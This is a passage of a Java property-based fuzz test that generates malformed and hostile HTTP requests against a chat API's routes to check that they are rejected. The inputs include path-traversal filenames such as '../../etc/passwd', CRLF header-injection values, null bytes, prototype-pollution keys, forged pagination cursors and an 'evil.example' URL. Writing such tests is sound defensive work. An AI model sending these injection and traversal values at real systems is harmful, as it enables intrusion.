            TestBackends.create().backends(), new RecordingMetrics(), new MutableClock(NOW)).routes();
    private static final List<String> TEMPLATES = ROUTES.stream().map(r -> r.substring(r.indexOf(' ') + 1))
            .distinct().toList();

    /** Real cursors the API issued for the seeded chat and message, read once. */
    private static final String MESSAGES_CURSOR = issuedCursor(
            HostileRequest.of("cursor", "GET", "/v1/chats/" + CHAT + "/messages").withQuery("limit", "1"));
    private static final String VERSIONS_CURSOR = issuedCursor(
            HostileRequest.of("cursor", "GET", "/v1/chats/" + CHAT + "/messages/" + EDITED + "/versions")
                    .withQuery("limit", "1"));

    private static String issuedCursor(HostileRequest request) {
        Exchange exchange = new World().send(request, "req-cursor");
        try {
            return STRICT.readTree(exchange.body()).path("nextCursor").asText();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Provide
    Arbitrary<List<HostileRequest>> conversations() {
        return Arbitraries.frequencyOf(
                        Tuple.of(8, mutatedRouteRequests()),
                        Tuple.of(2, noise()))
                .list().ofMinSize(1).ofMaxSize(3);
    }

    private static Arbitrary<HostileRequest> mutatedRouteRequests() {
        Arbitrary<HostileRequest> wellFormed = Arbitraries.oneOf(WELL_FORMED.values());
        return Combinators.combine(wellFormed, mutations().list().ofMaxSize(3)).as((request, mutations) -> {
            HostileRequest mutated = request;
            for (Mutation mutation : mutations) {
                mutated = mutation.applyTo(mutated);
            }
            return mutated;
        });
    }

    /** Requests made of random parts, for the router and the readers in front of every route. */
    private static Arbitrary<HostileRequest> noise() {
        return Combinators.combine(methods(), noisePaths(), queryParameter().list().ofMaxSize(3),
                        header().list().ofMaxSize(4), bodies(), Arbitraries.of(false, true), authorizerTenants())
                .as((method, path, query, headers, body, base64, tenant) -> {
                    HostileRequest request = HostileRequest.of("noise", method, path).withBody(body, base64)
                            .withAuthorizerTenant(tenant);
                    for (Map.Entry<String, String> parameter : query) {
                        request = request.withQuery(parameter.getKey(), parameter.getValue());
                    }
                    for (Map.Entry<String, String> header : headers) {
                        request = request.withHeader(header.getKey(), header.getValue());
                    }
                    return request;
                });
    }

    /** For each route, a request that is usually accepted, aimed mostly at the seeded items. */
    private static final Map<String, Arbitrary<HostileRequest>> WELL_FORMED = wellFormedRequests();

    private static Map<String, Arbitrary<HostileRequest>> wellFormedRequests() {
        String messages = "/v1/chats/{chatId}/messages";
        String message = messages + "/{messageId}";
        String attachments = message + "/attachments";
        Arbitrary<Boolean> escape = Arbitraries.of(false, true);
        Map<String, Arbitrary<HostileRequest>> routes = new LinkedHashMap<>();

        routes.put("POST " + messages, Combinators.combine(path(messages), appendBodies(), escape,
                        Arbitraries.of(SEEDED_IDEMPOTENCY_KEY, "retry-key-1", "retry-key-2").injectNull(0.6))
                .as((path, body, esc, key) -> {
                    HostileRequest request = HostileRequest.of("POST " + messages, "POST", path)
                            .withJsonBody(body, esc);
                    return key == null ? request : request.withHeader("idempotency-key", key);
                }));
        routes.put("GET " + messages, Combinators.combine(path(messages),
                        Arbitraries.integers().between(1, 100).map(String::valueOf).injectNull(0.5),
                        Arbitraries.of("true", "false").injectNull(0.5),
                        Arbitraries.just(MESSAGES_CURSOR).injectNull(0.7))
                .as((path, limit, deleted, cursor) -> withOptionalQuery(
                        HostileRequest.of("GET " + messages, "GET", path),
                        "limit", limit, "includeDeleted", deleted, "cursor", cursor)));
        routes.put("GET " + message, Combinators.combine(path(message), Arbitraries.of("true", "false")
                        .injectNull(0.5))
                .as((path, deleted) -> withOptionalQuery(HostileRequest.of("GET " + message, "GET", path),
                        "includeDeleted", deleted)));
        routes.put("PATCH " + message, Combinators.combine(path(message), messageVersions(), editBodies(), escape)
                .as((path, version, body, esc) -> HostileRequest.of("PATCH " + message, "PATCH", path)
                        .withHeader("if-match", version).withJsonBody(body, esc)));
        routes.put("DELETE " + message, Combinators.combine(path(message), messageVersions())
                .as((path, version) -> HostileRequest.of("DELETE " + message, "DELETE", path)
                        .withHeader("if-match", version)));
        routes.put("GET " + message + "/versions", Combinators.combine(path(message + "/versions"),
                        Arbitraries.integers().between(1, 100).map(String::valueOf).injectNull(0.5),
                        Arbitraries.just(VERSIONS_CURSOR).injectNull(0.7))
                .as((path, limit, cursor) -> withOptionalQuery(
                        HostileRequest.of("GET " + message + "/versions", "GET", path), "limit", limit,
                        "cursor", cursor)));
        routes.put("POST " + attachments, Combinators.combine(path(attachments), uploadBodies(), escape)
                .as((path, body, esc) -> HostileRequest.of("POST " + attachments, "POST", path)
                        .withJsonBody(body, esc)));
        routes.put("GET " + attachments, path(attachments)
                .map(path -> HostileRequest.of("GET " + attachments, "GET", path)));
        routes.put("GET " + attachments + "/{attachmentId}", path(attachments + "/{attachmentId}")
                .map(path -> HostileRequest.of("GET " + attachments + "/{attachmentId}", "GET", path)));
        routes.put("GET /v1/users/{userId}/settings", path("/v1/users/{userId}/settings")
                .map(path -> HostileRequest.of("GET /v1/users/{userId}/settings", "GET", path)));
        routes.put("PUT /v1/users/{userId}/settings", Combinators.combine(path("/v1/users/{userId}/settings"),
                        Arbitraries.of("*", "\"0\"", "\"1\"", "1", "W/\"1\""), jsonObjects(), escape)
                .as((path, version, body, esc) -> HostileRequest.of("PUT /v1/users/{userId}/settings", "PUT", path)
                        .withHeader("if-match", version).withJsonBody(body, esc)));
        routes.put("POST /v1/users/{userId}/jobs", Combinators.combine(path("/v1/users/{userId}/jobs"), jobBodies(),
                        escape)
                .as((path, body, esc) -> HostileRequest.of("POST /v1/users/{userId}/jobs", "POST", path)
                        .withJsonBody(body, esc)));
        routes.put("GET /v1/jobs/{jobId}", path("/v1/jobs/{jobId}")
                .map(path -> HostileRequest.of("GET /v1/jobs/{jobId}", "GET", path)));
        String retention = "/v1/chats/{chatId}/retention";
        routes.put("GET " + retention, path(retention).map(path -> HostileRequest.of("GET " + retention, "GET", path)));
        routes.put("PUT " + retention, Combinators.combine(path(retention), retentionBodies(), escape)
                .as((path, body, esc) -> HostileRequest.of("PUT " + retention, "PUT", path).withJsonBody(body, esc)));
        String branches = "/v1/chats/{chatId}/branches";
        routes.put("POST " + branches, Combinators.combine(path(branches), branchBodies(), escape)
                .as((path, body, esc) -> HostileRequest.of("POST " + branches, "POST", path).withJsonBody(body, esc)));
        routes.put("GET " + branches, Combinators.combine(path(branches),
                        Arbitraries.integers().between(0, 101).map(String::valueOf).injectNull(0.7))
                .as((path, limit) -> withOptionalQuery(HostileRequest.of("GET " + branches, "GET", path),
                        "limit", limit)));
        String hold = "/v1/users/{userId}/legal-hold";
        routes.put("GET " + hold, path(hold).map(path -> HostileRequest.of("GET " + hold, "GET", path)));
        routes.put("PUT " + hold, Combinators.combine(path(hold), holdBodies(), escape)
                .as((path, body, esc) -> HostileRequest.of("PUT " + hold, "PUT", path).withJsonBody(body, esc)));
        return routes;
    }

    private static HostileRequest withOptionalQuery(HostileRequest request, String... namesAndValues) {
        for (int i = 0; i < namesAndValues.length; i += 2) {
            if (namesAndValues[i + 1] != null) {
                request = request.withQuery(namesAndValues[i], namesAndValues[i + 1]);
            }
        }
        return request;
    }

    /** A route template with its variables filled, mostly with the ids of seeded items. */
    private static Arbitrary<String> path(String template) {
        List<Arbitrary<String>> segments = Stream.of(template.split("/", -1))
                .map(part -> part.startsWith("{") ? idFor(part) : Arbitraries.just(part))
                .toList();
        return Combinators.combine(segments).as(parts -> String.join("/", parts));
    }

    private static Arbitrary<String> idFor(String variable) {
        List<String> seeded = switch (variable) {
            case "{chatId}" -> List.of(CHAT);
            case "{messageId}" -> List.of(LIVE, EDITED, DELETED, KEYED);
            case "{attachmentId}" -> List.of(PENDING_ATTACHMENT, READY_ATTACHMENT);
            case "{userId}" -> List.of(USER);
            case "{jobId}" -> List.of(QUEUED_JOB, FINISHED_JOB);
            default -> throw new IllegalArgumentException("no ids known for " + variable);
        };
        return Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of(seeded)),
                Tuple.of(1, Arbitraries.of(FOREIGN_ONLY_CHAT, FOREIGN_ONLY_USER, FOREIGN_ONLY_MESSAGE,
                        FOREIGN_ONLY_ATTACHMENT, FOREIGN_ONLY_JOB)),
                Tuple.of(2, validIds()));
    }

    private static Arbitrary<String> validIds() {
        return Arbitraries.strings().withCharRange('a', 'z').withCharRange('A', 'Z').withCharRange('0', '9')
                .withChars("._:-").ofMinLength(1).ofMaxLength(128);
    }

    /** If-Match values naming the seeded messages' versions (1 and 2) and one beyond. */
    private static Arbitrary<String> messageVersions() {
        return Arbitraries.of("\"1\"", "\"2\"", "\"3\"", "W/\"1\"", "2");
    }

    private static Arbitrary<JsonNode> appendBodies() {
        Arbitrary<String> users = Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.just(USER)), Tuple.of(2, validIds()));
        return Combinators.combine(users, Arbitraries.of(true, false), texts(), jsonObjects().injectNull(0.5))
                .as((user, bot, text, metadata) -> {
                    ObjectNode body = JsonNodeFactory.instance.objectNode().put("userId", user).put("isBot", bot)
                            .put("text", text);
                    if (metadata != null) {
                        body.set("metadata", metadata);
                    }
                    return body;
                });
    }

    private static Arbitrary<JsonNode> editBodies() {
        return Combinators.combine(texts().injectNull(0.3), jsonObjects().injectNull(0.3), Arbitraries.of(true, false))
                .as((text, metadata, clearMetadata) -> {
                    ObjectNode body = JsonNodeFactory.instance.objectNode();
                    if (text != null) {
                        body.put("text", text);
                    }
                    if (metadata != null) {
                        body.set("metadata", metadata);
                    } else if (clearMetadata) {
                        body.putNull("metadata");
                    }
                    return body;
                });
    }

    private static Arbitrary<JsonNode> uploadBodies() {
        Arbitrary<String> contentTypes = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of("image/png", "image/jpeg", "image/gif", "image/webp")),
                Tuple.of(2, Arbitraries.of("IMAGE/PNG", "image/png; q=1", "image/svg+xml", "text/plain", "",
                        "image/", "image/png\u0000")));
        Arbitrary<Long> sizes = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.longs().between(1, 10L * 1024 * 1024)),
                Tuple.of(2, Arbitraries.of(0L, -1L, 10L * 1024 * 1024 + 1, Long.MAX_VALUE, Long.MIN_VALUE)));
        Arbitrary<String> filenames = Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.strings().alpha().numeric().ofMinLength(1).ofMaxLength(20)
                        .map(name -> name + ".png")),
                Tuple.of(1, Arbitraries.of("../../etc/passwd", "a\\b.png", "\u0000.png", " ", "", "x".repeat(256),
                        "photo\u202Egnp.exe", "%2e%2e%2f.png", "😀.png")),
                Tuple.of(3, Arbitraries.<String>just(null)));
        return Combinators.combine(contentTypes, sizes, filenames).as((type, size, filename) -> {
            ObjectNode body = JsonNodeFactory.instance.objectNode().put("contentType", type).put("size", size);
            if (filename != null) {
                body.put("filename", filename);
            }
            return body;
        });
    }

    /** Mostly valid policies; some out of range, of the wrong type or with an unknown field. */
    private static Arbitrary<JsonNode> retentionBodies() {
        JsonNodeFactory json = JsonNodeFactory.instance;
        Arbitrary<JsonNode> days = Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.integers().between(1, 400).map(d -> (JsonNode) json.numberNode(d))),
                Tuple.of(2, Arbitraries.just((JsonNode) json.nullNode())),
                Tuple.of(1, Arbitraries.of(json.numberNode(0), json.numberNode(36_501), json.textNode("30"),
                        json.numberNode(1.5))));
        Arbitrary<JsonNode> hold = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of(json.booleanNode(true), json.booleanNode(false))),
                Tuple.of(1, Arbitraries.of(json.textNode("yes"), json.numberNode(1))));
        return Combinators.combine(days, hold, Arbitraries.of("days", "days", "days", "dayz"))
                .as((d, h, daysField) -> {
                    ObjectNode body = json.objectNode();
                    body.set(daysField, d);
                    body.set("legalHold", h);
                    return body;
                });
    }

    /** Mostly a seeded message to fork from; some foreign, unknown or malformed. */
    private static Arbitrary<JsonNode> branchBodies() {
        JsonNodeFactory json = JsonNodeFactory.instance;
        return Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of(LIVE, EDITED, KEYED).map(id -> (JsonNode) json.objectNode()
                        .put("fromMessageId", id))),
                Tuple.of(2, Arbitraries.of(DELETED, FOREIGN_ONLY_MESSAGE, "no-such-message", "../x", "")
                        .map(id -> (JsonNode) json.objectNode().put("fromMessageId", id))),
                Tuple.of(1, Arbitraries.of((JsonNode) json.objectNode(), json.objectNode().put("from", LIVE),
                        json.objectNode().put("fromMessageId", 7))));
    }

    private static Arbitrary<JsonNode> holdBodies() {
        JsonNodeFactory json = JsonNodeFactory.instance;
        return Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.of(true, false).map(h -> (JsonNode) json.objectNode().put("legalHold", h))),
                Tuple.of(1, Arbitraries.of((JsonNode) json.objectNode().put("legalHold", "true"), json.objectNode(),
                        json.objectNode().put("hold", true))));
    }

    private static Arbitrary<JsonNode> jobBodies() {
        return Combinators.combine(
                        Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.of("archive", "export", "erase", "recount")),
                                Tuple.of(1, Arbitraries.of("ARCHIVE", "defragment", "", " export"))),
                        Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.of(CHAT, FOREIGN_ONLY_CHAT)),
                                Tuple.of(1, validIds()), Tuple.of(1, hostileSegments())).injectNull(0.6))
                .as((type, chatId) -> {
                    ObjectNode body = JsonNodeFactory.instance.objectNode().put("type", type);
                    if (chatId != null) {
                        body.put("chatId", chatId);
                    }
                    return body;
                });
    }

    // ---------------------------------------------------------------- mutations

    /** A change to one part of a request, named for the failure report. */
    record Mutation(String description, UnaryOperator<HostileRequest> change) {
        HostileRequest applyTo(HostileRequest request) {
            return change.apply(request).noting(description);
        }
    }

    private static Arbitrary<Mutation> mutations() {
        return Arbitraries.frequencyOf(
                Tuple.of(2, methods().map(m -> new Mutation("method " + show(m, 20), r -> r.withMethod(m)))),
                Tuple.of(3, Combinators.combine(Arbitraries.integers().between(0, 7), hostileSegments())
                        .as((i, segment) -> new Mutation("segment " + i + " = " + show(segment, 40),
                                r -> r.withPath(replaceSegment(r.path(), i, segment))))),
                Tuple.of(1, noisePaths().map(p -> new Mutation("path " + show(p, 60), r -> r.withPath(p)))),
                Tuple.of(3, queryParameter().map(q -> new Mutation("query " + show(q.getKey(), 20) + "="
                        + show(q.getValue(), 60), r -> r.withQuery(q.getKey(), q.getValue())))),
                Tuple.of(4, header().map(h -> new Mutation("header " + show(h.getKey(), 30) + ": "
                        + show(h.getValue(), 60), r -> r.withHeader(h.getKey(), h.getValue())))),
                Tuple.of(2, Arbitraries.of("content-type", "if-match", "idempotency-key")
                        .map(h -> new Mutation("without " + h, r -> r.withoutHeader(h)))),
                Tuple.of(4, Combinators.combine(fieldNames(), hostileJsonValues(), Arbitraries.of(false, true))
                        .as((field, value, esc) -> new Mutation("field " + show(field, 30) + " = "
                                + show(write(value, true), 60), r -> withField(r, field, value, esc)))),
                Tuple.of(1, fieldNames().map(field -> new Mutation("without field " + show(field, 30),
                        r -> withoutField(r, field)))),
                Tuple.of(2, bodies().map(b -> new Mutation("body " + show(b, 60), r -> r.withBody(b, r.base64())))),
                Tuple.of(1, Arbitraries.of(" x", "}", "{}", "\u0000", ",", "//", "\n\n", "garbage", "]")
                        .map(g -> new Mutation("trailing " + show(g, 20),
                                r -> r.withBody(r.body() == null ? g : r.body() + g, r.base64())))),
                Tuple.of(1, hostileJsonValues().map(v -> new Mutation("duplicate key " + show(write(v, true), 40),
                        r -> withDuplicateKey(r, v)))),
                Tuple.of(2, base64Mutations()),
                Tuple.of(1, authorizerTenants().map(t -> new Mutation("authorizer tenant " + show(t, 30),
                        r -> r.withAuthorizerTenant(t)))));
    }

    private static String replaceSegment(String path, int index, String segment) {
        if (path == null || !path.startsWith("/")) {
            return "/" + segment;
        }
        String[] parts = path.substring(1).split("/", -1);
        parts[index % parts.length] = segment;
        return "/" + String.join("/", parts);
    }

    private static HostileRequest withField(HostileRequest request, String field, JsonNode value, boolean escape) {
        ObjectNode object = request.bodyObject();
        ObjectNode body = object == null ? JsonNodeFactory.instance.objectNode() : object;
        body.set(field, value);
        return request.withBody(write(body, escape), false);
    }

    private static HostileRequest withoutField(HostileRequest request, String field) {
        ObjectNode object = request.bodyObject();
        if (object == null) {
            return request;
        }
        object.remove(field);
        return request.withBody(write(object, false), false);
    }

    /** The first field again, with another value, written before the original: {"a":x,"a":1,...}. */
    private static HostileRequest withDuplicateKey(HostileRequest request, JsonNode value) {
        ObjectNode object = request.bodyObject();
        if (object == null || object.isEmpty() || !request.body().trim().startsWith("{")) {
            return request;
        }
        String first = object.fieldNames().next();
        String body = request.body().trim();
        return request.withBody("{" + write(JsonNodeFactory.instance.textNode(first), false) + ":" + write(value, false)
                + "," + body.substring(1), false);
    }

    /** The base64 flag on and off, with and without an encoded body, and raw bytes in odd encodings. */
    private static Arbitrary<Mutation> base64Mutations() {
        Base64.Encoder encoder = Base64.getEncoder();
        return Arbitraries.oneOf(
                Arbitraries.just(new Mutation("base64 encoded", r -> r.body() == null ? r
                        : r.withBody(encoder.encodeToString(r.body().getBytes(StandardCharsets.UTF_8)), true))),
                Arbitraries.just(new Mutation("base64 flag without encoding", r -> r.withBody(r.body(), true))),
                Arbitraries.just(new Mutation("encoded without base64 flag", r -> r.body() == null ? r
                        : r.withBody(encoder.encodeToString(r.body().getBytes(StandardCharsets.UTF_8)), false))),
                Arbitraries.of("UTF-16BE", "UTF-16LE", "UTF-32BE", "UTF-32LE", "ISO-8859-1")
                        .map(charset -> new Mutation("body in " + charset, r -> r.body() == null ? r
                                : r.withBody(encoder.encodeToString(r.body().getBytes(Charset.forName(charset))),
                                true))),
                rawBytes().map(bytes -> new Mutation("raw bytes " + show(new String(bytes, StandardCharsets.ISO_8859_1),
                        40), r -> r.withBody(encoder.encodeToString(bytes), true))));
    }

    /** Bytes that are not UTF-8 JSON: byte-order marks, UTF-32-looking prefixes, invalid sequences. */
    private static Arbitrary<byte[]> rawBytes() {
        Arbitrary<byte[]> prefixes = Arbitraries.of(new byte[0], bytes(0xEF, 0xBB, 0xBF), bytes(0xFE, 0xFF),
                bytes(0xFF, 0xFE), bytes(0, 0, 0xFE, 0xFF), bytes(0xFF, 0xFE, 0, 0), bytes(0, 0, 0, '{'),
                bytes('{', 0, 0, 0), bytes(0, '{'), bytes('{', 0), bytes(0xC0, 0xAF), bytes(0xED, 0xA0, 0x80));
        Arbitrary<byte[]> tails = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.bytes().array(byte[].class).ofMaxSize(64)),
                Tuple.of(2, Arbitraries.of(bytes(0x7F, 0xFF, 0xFF, 0xFF), bytes(0, 0x11, 0, 0), bytes(0xD8, 0, 0, 0),
                        bytes(0, 0, 0xD8, 0), bytes('}', 0, 0, 0), bytes(0, 0, 0, '}'), bytes(0xFF, 0xFF))),
                Tuple.of(1, Arbitraries.just("{\"text\":\"x\"}".getBytes(StandardCharsets.UTF_8))));
        return Combinators.combine(prefixes, tails, tails).as((prefix, tail, more) -> {
            byte[] all = Arrays.copyOf(prefix, prefix.length + tail.length + more.length);
            System.arraycopy(tail, 0, all, prefix.length, tail.length);
            System.arraycopy(more, 0, all, prefix.length + tail.length, more.length);
            return all;
        });
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    // ---------------------------------------------------------------- hostile parts

    /** What an authorizer might put in the event: our tenant, the other one, nothing. */
    private static Arbitrary<String> authorizerTenants() {
        return Arbitraries.of(TestConfigs.TENANT, FOREIGN_TENANT).injectNull(0.2);
    }

    private static Arbitrary<String> methods() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of("GET", "POST", "PUT", "PATCH", "DELETE")),
                Tuple.of(3, Arbitraries.of("HEAD", "OPTIONS", "TRACE", "CONNECT", "get", "Patch", "", " GET", "GET ",
                        "PROPFIND", "M-SEARCH", "ПОСТ", "\u0000", "G\u0000ET", "\uD800", "POST\r\nX-Injected: 1",
                        "DELETE".repeat(1000))),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(20)),
                Tuple.of(1, Arbitraries.<String>just(null)));
    }

    /** Path segments that are not plain ids: empty, dot segments, encodings, unicode, huge. */
    private static Arbitrary<String> hostileSegments() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of("", ".", "..", "...", "#", "chat#other", "%23", "%2F", "%2f..%2f", "%00",
                        "%", "%zz", "%E2%82%AC", "%C0%AF", "%ED%A0%80", "%FF", "+", "%2B", " ", "a b", "?", "?x=1",
                        ";", ";a=b", "*", "~", "\u0000", "\uD800", "\uDFFF", "😀", "ümlaut", "ｆｕｌｌ", "\u202Eevil",
                        "\r\n", "\t", "\\", "..%2F..%2F", "%252e%252e", "chat-42\u0000", "CHAT-42", "chat-42 ",
                        "01jdxk3m7q8z5v2n4t6r9w1y0a", "null", "undefined", "$default", "{chatId}",
                        "snapstart-priming")),
                Tuple.of(2, Arbitraries.of(129, 1_000, 10_000, 100_000).flatMap(n -> Arbitraries.of("c", "é", "%")
                        .map(c -> c.repeat(n)))),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(30)),
                Tuple.of(1, validIds().map(id -> id + "/" + id)));
    }

    private static Arbitrary<String> noisePaths() {
        Arbitrary<String> templatesWithHostileSegments = Arbitraries.of(TEMPLATES).flatMap(template -> {
            List<Arbitrary<String>> segments = Stream.of(template.split("/", -1))
                    .map(part -> part.startsWith("{")
                            ? Arbitraries.oneOf(hostileSegments(), idFor(part))
                            : Arbitraries.just(part))
                    .toList();
            return Combinators.combine(segments).as(parts -> String.join("/", parts));
        });
        Arbitrary<String> templatesWithSuffixes = Combinators.combine(Arbitraries.of(TEMPLATES),
                        Arbitraries.of("/", "//", "/x", "?a=b", "#frag", "/..", "/.", "%2F", "/versions/versions"))
                .as((template, suffix) -> template.replace("{chatId}", CHAT).replace("{messageId}", LIVE)
                        .replace("{attachmentId}", READY_ATTACHMENT).replace("{userId}", USER)
                        .replace("{jobId}", QUEUED_JOB) + suffix);
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("", "/", "//", "/v1", "/v1/", "/v1/chats", "/v1/chats/", "/v1/jobs",
                        "/v1/jobs/", "/V1/chats/chat-42/messages", "v1/chats/chat-42/messages",
                        "/v1/chats//messages", "/v1/chats/chat-42/messages?limit=1", "/v1/../v1/jobs/x",
                        "/%76%31/jobs/x", "http://evil.example/v1/jobs/x", "\\v1\\jobs\\x", "/v1/users//settings",
                        "/v2/chats/chat-42/messages", "/v1/chats/chat-42/messages/" + LIVE + "/attachments/",
                        "/v1/chats/chat-42/messages/" + LIVE + "/attachments/a/b", "*", "/\u0000",
                        "/v1/chats/chat-42/messages\u0000")),
                Tuple.of(3, templatesWithHostileSegments),
                Tuple.of(2, templatesWithSuffixes),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(60)),
                Tuple.of(1, Arbitraries.of(100, 10_000, 100_000).map(n -> "/v1" + "/a".repeat(n))),
                Tuple.of(1, Arbitraries.<String>just(null)));
    }

    private static Arbitrary<Map.Entry<String, String>> queryParameter() {
        Arbitrary<String> limits = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("-1", "0", "1", "50", "100", "101", "-2147483648", "2147483647",
                        "2147483648", "99999999999999999999", "1.5", "1e2", "0x10", " 5", "5 ", "+5", "05", "٣", "５",
                        "", "NaN", "null", "limit", "1,2", "\u0000")),
                Tuple.of(1, Arbitraries.integers().map(String::valueOf)));
        Arbitrary<String> includeDeleted = Arbitraries.of("true", "false", "TRUE", "True", "1", "0", "yes", "",
                " true", "true ", "null", "tru", "\u0000");
        return Arbitraries.frequencyOf(
                Tuple.of(3, limits.map(v -> Map.entry("limit", v))),
                Tuple.of(3, cursors().map(v -> Map.entry("cursor", v))),
                Tuple.of(2, includeDeleted.map(v -> Map.entry("includeDeleted", v))),
                Tuple.of(1, Combinators.combine(Arbitraries.oneOf(Arbitraries.of("", "LIMIT", "Cursor", "limit ",
                                "a[]", "__proto__"), Arbitraries.strings().all().ofMaxLength(10)),
                        Arbitraries.strings().all().ofMaxLength(30)).as(Map::entry)));
    }

    /** Garbage cursors, and real ones with their fields replaced (the scope hash stays valid). */
    private static Arbitrary<String> cursors() {
        Base64.Encoder url = Base64.getUrlEncoder().withoutPadding();
        Arbitrary<String> forged = Combinators.combine(Arbitraries.of(MESSAGES_CURSOR, VERSIONS_CURSOR),
                        Arbitraries.of("k", "s", "a", "m", "b", "x"), hostileJsonValues())
                .as((cursor, field, value) -> {
                    try {
                        ObjectNode node = (ObjectNode) PLAIN.readTree(Base64.getUrlDecoder().decode(cursor));
                        node.set(field, value);
                        return url.encodeToString(PLAIN.writeValueAsBytes(node));
                    } catch (IOException | RuntimeException e) {
                        return cursor; // not the format this was written for; the real cursor still serves
                    }
                });
        return Arbitraries.frequencyOf(
                Tuple.of(2, Arbitraries.of(MESSAGES_CURSOR, VERSIONS_CURSOR)),
                Tuple.of(4, forged),
                Tuple.of(2, Arbitraries.of("", "=", "%", "eyJ9", "eyJrIjoibWVzc2FnZXMifQ", "bnVsbA", "W10",
                        MESSAGES_CURSOR + "x", MESSAGES_CURSOR.replace('-', '+'), "a".repeat(1025),
                        "e".repeat(100_000), "\uD800", "😀")),
                Tuple.of(2, hostileJsonValues().map(v -> url.encodeToString(write(v, false)
                        .getBytes(StandardCharsets.UTF_8)))),
                Tuple.of(1, rawBytes().map(url::encodeToString)),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(40)));
    }

    private static Arbitrary<Map.Entry<String, String>> header() {
        Arbitrary<String> contentTypes = Arbitraries.of("application/json", "application/json; charset=utf-8",
                "APPLICATION/JSON", "application/json;charset=utf-16", "application/merge-patch+json",
                "application/vnd.api+json", "+json", "text/plain", "text/json", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "", ";", "application/json;;;", "application/json, text/plain",
                "*/*", "json", "application/jsonx", "application/json\u0000", " application/json ",
                "application/json; " + "x".repeat(10_000));
        Arbitrary<String> ifMatches = Arbitraries.of("\"1\"", "\"2\"", "\"3\"", "W/\"1\"", "1", "2", "*", "\"*\"",
                "\"0\"", "\"-1\"", "-1", "\"1\", \"2\"", "\"\"", "", "  \"1\"  ", "w/\"1\"", "\"999999999999999999\"",
                "\"9999999999999999999\"", "\"1", "1\"", "\"0x1\"", "\"١\"", "W/", "*, \"1\"",
                "\"" + "9".repeat(10_000) + "\"");
        Arbitrary<String> idempotencyKeys = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(SEEDED_IDEMPOTENCY_KEY, "retry-key-1", "", " ", "has spaces",
                        "k".repeat(128), "k".repeat(129), "key#1", "ключ", "\u0000", "\uD800", "a,b",
                        "01JDXK3M7Q8Z5V2N4T6R9W1Y0A")),
                Tuple.of(1, validIds()));
        Arbitrary<String> authorizations = Arbitraries.oneOf(
                Arbitraries.strings().withCharRange('a', 'z').withCharRange('A', 'Z').withCharRange('0', '9')
                        .withChars("-_").ofLength(43).map(key -> "Bearer " + key),
                Arbitraries.of("", "Bearer", "Bearer ", "Basic YWRtaW46YWRtaW4=", "Bearer " + "x".repeat(100_000),
                        "Bearer \u0000", "Bearer 😀", "AWS4-HMAC-SHA256 Credential=junk", "Bearer a, Bearer b"));
        Arbitrary<String> names = Arbitraries.oneOf(
                Arbitraries.of("Content-Type", "CONTENT-TYPE", "If-Match", "Idempotency-Key", "Authorization",
                        "x-amzn-requestid", "host", "accept", "content-length", "transfer-encoding",
                        "x-forwarded-for", "cookie", "", " ", "x-tenant-id", "x-api-key"),
                Arbitraries.strings().all().ofMaxLength(20));
        Arbitrary<String> values = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(1, Arbitraries.of("", "\u0000", "a".repeat(100_000), "\r\nX-Injected: 1")),
                Tuple.of(1, Arbitraries.<String>just(null)));
        return Arbitraries.frequencyOf(
                Tuple.of(3, contentTypes.map(v -> Map.entry("content-type", v))),
                Tuple.of(3, ifMatches.map(v -> Map.entry("if-match", v))),
                Tuple.of(2, idempotencyKeys.map(v -> Map.entry("idempotency-key", v))),
                Tuple.of(2, authorizations.map(v -> Map.entry("authorization", v))),
                Tuple.of(2, Combinators.combine(names, values).as(HostileInputPropertyTest::nullableEntry)));
    }

    private static Map.Entry<String, String> nullableEntry(String name, String value) {
        return new java.util.AbstractMap.SimpleImmutableEntry<>(name, value);
    }

    /** Names of the fields the routes read, and some they do not. */
    private static Arbitrary<String> fieldNames() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of("userId", "isBot", "text", "metadata", "type", "chatId", "contentType",
                        "size", "filename")),
                Tuple.of(1, Arbitraries.of("", "txt", "TEXT", "__proto__", "constructor", "\u0000", "\uD800",
                        "x".repeat(39) + "😀", "tenantId", "version", "messageId")),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(20)));
    }

    /** Any JSON document or fragment as a request body, valid or not. */
    private static Arbitrary<String> bodies() {
        return Arbitraries.frequencyOf(
                Tuple.of(2, Arbitraries.of("", " ", "\n", "null", "true", "1", "\"string\"", "[]", "{}", "[{}]",
                        "{\"a\":1,}", "[1,]", "{'single':'quotes'}", "{text:1}", "NaN", "Infinity", "-0",
                        "/* comment */{}", "{\"a\":1}\u0000", "\uFEFF{}", "{\"text\":\"\\ud800\"}",
                        "{\"text\":\"\\u0000\"}", "{\"text\":\"\\udc00\\ud800\"}", "<xml/>", "a=b&c=d",
                        "{\"a\":" + "1".repeat(65) + "}", "1e99999", "{\"a\":1e400}", "{\"userId\":\"u\"",
                        "{\"a\":\"b\"}}", "{\"a\"\u0000:1}", "{\"\\u0000\":1}")),
                Tuple.of(1, Arbitraries.<String>just(null)),
